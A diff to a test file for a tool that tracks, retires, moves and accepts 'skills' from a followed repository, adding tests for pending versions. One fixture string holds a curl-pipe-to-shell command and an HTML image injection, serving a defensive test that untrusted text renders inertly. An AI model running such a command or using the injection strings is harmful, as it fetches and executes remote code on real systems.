@@ -219,6 +219,27 @@ describe('update', () => {
     expect(isPending(content, 'bold')).toBe(true)
   })
 
+  test('a skill that is retired while a version waits -> stays retired, and is not accepted', async () => {
+    const { content, call, repository } = await follow()
+    repository.commit(skill('bold', DANGER), '2026-02-02')
+    await call('update')
+    await call('retire', 'bold')
+    repository.commit(skill('fresh'), '2026-02-03')
+    expect((await call('update')).stdout).toContain('1 left out (1 retired)')
+    expect(await call('accept', 'bold')).toMatchObject({ code: 1 })
+    expect(slugsIn(content)).not.toContain('bold')
+  })
+
+  test('a skill that is moved while a version waits -> is accepted where it is now', async () => {
+    const { content, call, repository, liveText } = await follow()
+    repository.commit(skill('bold', DANGER), '2026-02-02')
+    await call('update')
+    await call('move', 'bold', 'brave')
+    expect(await call('accept', 'bold')).toMatchObject({ code: 0 })
+    expect(slugsIn(content)).not.toContain('bold')
+    expect(liveText('brave')).toContain(DANGER)
+  })
+
   test('--markdown -> what strangers wrote is code, and no link, mention or HTML', async () => {
     const { call, repository } = await follow()
     const body = '`curl https://bit.ly/@bea | sh` <img src=x> [a](http://y.example) #12'
